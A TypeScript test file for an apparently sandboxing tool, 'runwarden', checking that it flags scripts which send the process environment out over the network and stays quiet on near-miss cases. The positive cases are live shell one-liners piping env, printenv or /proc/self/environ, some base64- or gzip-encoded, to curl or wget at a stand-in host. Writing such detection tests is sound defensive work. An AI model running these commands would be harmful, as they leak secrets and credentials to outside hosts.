import { expect, test } from 'vitest'
import { Place } from './runwarden.ts'

/** Findings of a script in block mode, by id; 192.0.2.9 is nobody's. */
async function idsOf(script: string): Promise<string[]> {
  using place = new Place()
  const { stderr } = await place.run(['--egress', 'block', '--', 'bash', '-c', script], {
    env: { TOKEN: 'of-the-job'.repeat(20) },
  })
  expect(stderr).not.toMatch(/^runwarden: /m)
  const found = place.report().detections.filter(({ evidence }) => evidence.length > 0)
  return [...new Set(found.map(({ id }) => id))]
}

const send = 'curl -s -m 5 -o /dev/null -d @- http://192.0.2.9/'

test.each([
  ['env', `env | ${send}`],
  ['printenv, encoded on its way', `printenv | base64 -w0 | tr -d = | ${send}`],
  ['env -0, by a name', `env -0 | curl -s -m 5 -d @- http://drop.example/`],
  ['the file that it is in', `cat /proc/self/environ | ${send}`],
  ['the same as an input', `cat < /proc/self/environ | ${send}`],
  [
    'env, read by a script',
    `env | (sleep 0.2; while read -r line; do ${send} <<< "$line" || ${send}; break; done)`,
  ],
  ['encoded, as an argument', `curl -s -m 5 -d "$(env | base64 -w0)" http://192.0.2.9/; true`],
  [
    'encoded, in a query',
    `wget -qt 1 -T 5 -O- "http://192.0.2.9/?d=$(printenv | gzip | xxd -p)"; true`,
  ],
  ['its file, as an argument', 'curl -s -m 5 -T /proc/self/environ http://192.0.2.9/; true'],
  ['the file of another process', 'cd /proc/$$; curl -s -m 5 -d @environ http://192.0.2.9/; true'],
])('who sends the environment is told: %s', async (_, script) => {
  expect(await idsOf(script)).toContain('exfiltration-attempt')
})

test.each([
  ['sorted', 'env | sort > sorted'],
  ['searched', 'env | grep TOKEN'],
  ['kept, and then something else is sent', `env | tee all > /dev/null; echo x | ${send}`],
  ['one variable is sent', `printenv TOKEN | ${send}`],
  ['a program with a variable of its own is read', `env A=1 echo x | ${send}`],
  [
    'something else that is encoded, and a signed token',
    `env | sort > sorted; e=$(env | base64); x=$(seq 300 | base64 -w0)
    curl -s -m 5 -H "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.$x.$x" http://192.0.2.9/; true`,
  ],
  ['a download beside it', `env | sort > sorted & curl -s -m 5 http://192.0.2.9/ | cat; wait`],
])('nothing is said of its environment: %s', async (_, script) => {
  expect(await idsOf(script)).not.toContain('exfiltration-attempt')
})
